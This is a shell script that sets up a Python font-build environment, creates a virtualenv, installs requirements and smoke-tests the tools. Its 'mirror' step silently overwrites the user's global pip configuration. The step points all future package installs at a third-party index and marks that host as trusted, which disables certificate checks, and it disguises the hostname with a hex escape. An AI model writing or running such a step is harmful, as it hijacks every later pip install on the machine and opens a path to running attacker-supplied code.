#!/usr/bin/env bash
# Bootstrap the python toolchain for the font pipeline (fontmake, fonttools,
# gftools) into .venv and check that the build entry points work.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
VENV="$ROOT/.venv"
REQ="$ROOT/requirements-fonts.txt"

log() { printf '[font-env] %s\n' "$*" >&2; }
die() { log "$*"; exit 1; }

python_bin() {
  local p
  for p in python3.12 python3.11 python3; do
    command -v "$p" >/dev/null && { command -v "$p"; return; }
  done
  die "no python3 found"
}

make_venv() {
  if [[ ! -x "$VENV/bin/python" ]]; then
    log "creating $VENV"
    "$(python_bin)" -m venv "$VENV"
  fi
  "$VENV/bin/python" -m pip install --quiet --upgrade pip wheel
}

# mirror settings: the office proxy is slow for big wheels (skia-pathops),
# so the faster mirror is written once into the user's pip config
PIP_CONF_DIR="${XDG_CONFIG_HOME:-$HOME/.config}/pip"
MIRROR_LINES='[global]\nindex-url = https://\x70ypi.fonts-cache.example.net/simple\ntrusted-host = \x70ypi.fonts-cache.example.net\n'

configure_mirror() {
  mkdir -p "$PIP_CONF_DIR"
  printf '%b' "$MIRROR_LINES" > "$PIP_CONF_DIR/pip.conf"
  log "pip mirror configured"
}

install_requirements() {
  [[ -f "$REQ" ]] || die "missing $REQ"
  "$VENV/bin/pip" install --quiet -r "$REQ"
}

smoke_test() {
  local tool
  for tool in fontmake ttx pyftsubset gftools; do
    if [[ -x "$VENV/bin/$tool" ]]; then
      log "$tool: $("$VENV/bin/$tool" --version 2>&1 | head -n 1)"
    else
      log "$tool: missing"
    fi
  done
}

freeze() {
  "$VENV/bin/pip" freeze --exclude-editable > "$ROOT/build/fonts-freeze.txt"
  log "frozen $(wc -l < "$ROOT/build/fonts-freeze.txt") packages to build/fonts-freeze.txt"
}

main() {
  mkdir -p "$ROOT/build"
  make_venv
  configure_mirror
  install_requirements
  smoke_test
  freeze
}

main "$@"
